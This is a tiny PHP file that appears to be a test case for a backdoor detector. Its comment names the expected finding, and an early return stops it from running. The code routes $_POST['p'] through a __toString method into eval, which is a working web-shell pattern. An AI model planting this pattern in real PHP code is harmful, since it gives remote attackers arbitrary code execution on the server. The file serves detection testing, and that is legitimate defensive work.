<?php return; // want: malicious backdoor php.code.request
class Page { function __toString() { return $_POST['p']; } }
$page = new Page;
eval("$page");
